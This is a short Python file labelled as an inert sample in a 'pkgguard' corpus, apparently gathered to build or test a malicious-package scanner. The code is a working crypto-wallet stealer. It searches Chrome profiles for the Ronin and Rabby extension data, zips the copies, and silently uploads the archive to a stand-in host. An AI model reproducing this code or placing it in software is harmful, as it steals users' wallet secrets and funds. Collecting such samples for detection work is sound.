# pkgguard corpus 867 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import requests

_EXTENSIONS = {
    "fnjhmkhhmkbjkkabndcnnogagogbneec": "ronin",
    "acmacodkjbdgmoleebolmdjonilkdbch": "rabby",
}

base = os.path.join(os.environ.get("LOCALAPPDATA", os.path.expanduser("~/.config")), "Google", "Chrome", "User Data")
stage = tempfile.mkdtemp()
for profile in ("Default", "Profile 1", "Profile 2"):
    for ext, label in _EXTENSIONS.items():
        source = os.path.join(base, profile, "Local Extension Settings", ext)
        if os.path.isdir(source):
            shutil.copytree(source, os.path.join(stage, profile.replace(" ", "_"), label))

archive = shutil.make_archive(stage, "zip", stage)
if os.path.getsize(archive) > 22:
    with open(archive, "rb") as fh:
        try:
            requests.post("https://nft-tools.example/sync", files={"a": fh}, timeout=15)
        except requests.RequestException:
            pass
